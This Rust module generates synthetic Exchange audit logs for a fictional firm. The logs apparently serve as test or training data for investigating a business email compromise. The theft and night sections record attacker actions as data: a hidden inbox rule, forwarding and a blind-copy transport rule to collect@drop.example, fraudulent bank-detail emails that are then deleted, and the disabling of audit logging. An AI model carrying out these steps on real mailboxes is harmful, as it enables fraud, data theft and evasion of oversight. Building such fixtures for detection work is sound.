//! Mailboxes: rules, forwarding, what was read, sent and deleted, and who was let in.

use serde_json::{Value, json};

use super::people::*;
use super::{EXCHANGE_ADMIN, EXCHANGE_AGGREGATED, EXCHANGE_GROUP, EXCHANGE_ITEM, Story, pairs};

const SYSTEM: &str = "NT AUTHORITY\\SYSTEM (Microsoft.Exchange.ServiceHost)";

pub fn tell(story: &mut Story) {
    noise(story);
    theft(story);
    night(story);
}

fn noise(story: &mut Story) {
    for (day, minute) in [("09", 14), ("10", 31), ("11", 2)] {
        let mailbox = upn(ELIF);
        story.cmdlet(
            &format!("2024-09-{day}T04:{minute:02}:00"),
            "Set-Mailbox",
            SYSTEM,
            "",
            &mailbox,
            &[("Identity", &mailbox), ("AuditEnabled", "True")],
        );
        story.cmdlet(
            &format!("2024-09-{day}T04:{minute:02}:30"),
            "Add-MailboxPermission",
            SYSTEM,
            "",
            &mailbox,
            &[("User", "Discovery Management"), ("AccessRights", "FullAccess")],
        );
        story.read(
            &format!("2024-09-{day}T08:40:00"),
            ELIF,
            OFFICE.0,
            "Client=REST;Client=RESTSystem;;",
            "Bind",
            "Inbox",
            &["harmless-1", "harmless-2"],
        );
        story.send(&format!("2024-09-{day}T10:20:00"), BRAM, OFFICE.0, "Weekly report", "weekly");
    }
    let rule = json!({
        "ClientIP": OFFICE.0, "MailboxOwnerUPN": upn(CARLA), "LogonType": 0,
        "OperationProperties": pairs(&[("RuleOperation", "AddMailboxRule"), ("RuleName", "Newsletters"), ("RuleActions", "[{\"ActionType\":\"Move\"}]")]),
    });
    story.log("2024-09-10T09:55:10", EXCHANGE_ITEM, "UpdateInboxRules", &upn(CARLA), rule);
}

/// The stolen session works in Femke's mailbox; Hanna's is read by IMAP the evening before.
fn theft(story: &mut Story) {
    story.read("2024-09-09T21:21:10", HANNA, SPRAY.0, "Client=POP3/IMAP4;Protocol=IMAP4;;", "Sync", "Inbox", &[]);
    let femke = upn(FEMKE);
    let rule = [("Name", "."), ("SubjectContainsWords", "invoice;payment"), ("MoveToFolder", "RSS Feeds"), ("MarkAsRead", "True")];
    story.cmdlet("2024-09-10T09:48:12", "New-InboxRule", &femke, "198.51.100.77:49301", &format!("{femke}\\."), &rule);
    let forward =
        [("Identity", femke.as_str()), ("ForwardingSmtpAddress", "smtp:collect@drop.example"), ("DeliverToMailboxAndForward", "True")];
    story.cmdlet("2024-09-10T09:50:37", "Set-Mailbox", &femke, "[2001:db8:bad::7]:50112", &femke, &forward);
    let client = "Client=OWA;Action=ViaProxy;;";
    story.read("2024-09-10T09:52:00", FEMKE, THIEF.0, client, "Bind", "Inbox", &["invoice-811", "invoice-812"]);
    story.read("2024-09-10T09:58:00", FEMKE, THIEF.0, client, "Bind", "Sent Items", &["offer-31", "offer-32", "offer-33"]);
    story.read("2024-09-10T10:05:00", FEMKE, THIEF.0, client, "Sync", "Archive", &[]);
    story.read("2024-09-10T11:00:00", FEMKE, OFFICE.0, "Client=REST;Client=RESTSystem;;", "Bind", "Inbox", &["invoice-811"]);
    story.send("2024-09-10T10:10:00", FEMKE, THIEF.0, "Changed bank details", "bank-1");
    story.send("2024-09-10T10:11:30", FEMKE, THIEF.0, "Re: Changed bank details", "bank-2");
    let deleted = json!({
        "ClientIPAddress": THIEF.0, "MailboxOwnerUPN": femke, "LogonType": 0, "ClientInfoString": client, "Folder": {"Path": "\\Sent Items"},
        "AffectedItems": [
            {"Subject": "Changed bank details", "InternetMessageId": "<bank-1@northwind-traders.example>", "ParentFolder": {"Path": "\\Sent Items"}},
            {"Subject": "Re: Changed bank details", "InternetMessageId": "<bank-2@northwind-traders.example>", "ParentFolder": {"Path": "\\Sent Items"}},
        ],
    });
    story.log("2024-09-10T10:12:45", EXCHANGE_GROUP, "HardDelete", &femke, deleted);
}

fn night(story: &mut Story) {
    let (hanna, omar, from) = (upn(HANNA), upn(OMAR), "203.0.113.140:51877");
    let permission = [("Identity", omar.as_str()), ("User", &hanna), ("AccessRights", "FullAccess"), ("AutoMapping", "False")];
    story.cmdlet("2024-09-11T02:45:09", "Add-MailboxPermission", &hanna, from, &omar, &permission);
    let copy = [("Name", "Archive copy"), ("SentTo", omar.as_str()), ("BlindCopyTo", "collect@drop.example")];
    story.cmdlet("2024-09-11T02:47:33", "New-TransportRule", &hanna, from, "Archive copy", &copy);
    let off = [("UnifiedAuditLogIngestionEnabled", "False")];
    story.cmdlet("2024-09-11T02:50:51", "Set-AdminAuditLogConfig", &hanna, from, "Admin Audit Log Settings", &off);
    let bypass = [("Identity", hanna.as_str()), ("AuditBypassEnabled", "True")];
    story.cmdlet("2024-09-11T02:51:40", "Set-MailboxAuditBypassAssociation", &hanna, from, &hanna, &bypass);
    story.cmdlet(
        "2024-09-11T04:00:00",
        "Set-AdminAuditLogConfig",
        SYSTEM,
        "",
        "Admin Audit Log Settings",
        &[("AdminAuditLogEnabled", "True")],
    );
}

impl Story {
    fn cmdlet(&mut self, time: &str, operation: &'static str, user: &str, ip: &str, object: &str, parameters: &[(&str, &str)]) {
        let more = json!({
            "ClientIP": ip, "ObjectId": object, "ExternalAccess": false, "OrganizationName": "northwind-traders.example",
            "OriginatingServer": "AM0PR04MB5043 (15.20.4219.025)\r\n", "Parameters": pairs(parameters),
        });
        self.log(time, EXCHANGE_ADMIN, operation, user, more);
    }

    /// One record for several messages, as the service aggregates them.
    #[allow(clippy::too_many_arguments, reason = "a call is a line of the story")]
    fn read(&mut self, time: &str, name: &str, ip: &str, client: &str, access: &str, folder: &str, messages: &[&str]) {
        let items: Value = messages.iter().map(|id| json!({"InternetMessageId": message(id), "SizeInBytes": 20_000})).collect();
        let folders =
            if messages.is_empty() { json!([]) } else { json!([{"Path": format!("\\{folder}"), "Id": "LgAAAAD", "FolderItems": items}]) };
        let more = json!({
            "ClientIPAddress": ip, "ClientInfoString": client, "MailboxOwnerUPN": upn(name), "LogonType": 0, "ExternalAccess": false,
            "OperationProperties": pairs(&[("MailAccessType", access), ("IsThrottled", "False")]), "Folders": folders,
            "OperationCount": messages.len().max(1), "OrganizationName": "northwind-traders.example",
        });
        self.log(time, EXCHANGE_AGGREGATED, "MailItemsAccessed", &upn(name), more);
    }

    fn send(&mut self, time: &str, name: &str, ip: &str, subject: &str, id: &str) {
        let more = json!({
            "ClientIPAddress": ip, "MailboxOwnerUPN": upn(name), "LogonType": 0, "ClientInfoString": "Client=OWA;;",
            "Item": {"Subject": subject, "InternetMessageId": message(id), "ParentFolder": {"Path": "\\Drafts"}, "Attachments": ""},
        });
        self.log(time, EXCHANGE_ITEM, "Send", &upn(name), more);
    }
}

fn message(id: &str) -> String {
    format!("<{id}@northwind-traders.example>")
}
